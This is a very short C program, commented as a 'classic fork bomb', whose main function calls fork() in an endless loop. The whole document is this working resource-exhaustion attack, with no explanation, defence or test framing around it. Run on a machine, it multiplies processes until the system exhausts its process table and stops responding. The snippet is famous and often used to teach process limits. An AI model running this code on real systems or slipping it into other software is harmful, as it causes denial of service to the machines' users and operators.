// Classic fork bomb: every process keeps forking.
#include <unistd.h>
int main() {
    for (;;) fork();
}
